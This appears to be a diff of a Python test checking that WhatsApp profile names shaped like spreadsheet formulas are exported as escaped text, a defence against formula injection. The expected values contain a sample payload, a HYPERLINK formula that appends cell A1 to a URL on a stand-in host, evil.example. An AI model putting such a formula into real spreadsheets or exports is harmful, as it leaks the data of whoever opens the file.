@@ -83,4 +83,4 @@ def test_a_whatsapp_profile_name_that_is_a_formula_is_exported_as_text(operator,
 
     names = sorted(row["name"] for row in rows(export(signed_in(operator))))
 
-    assert names == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'@SUM(1+1)"]
+    assert names == ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'@SUM(1+1)"]
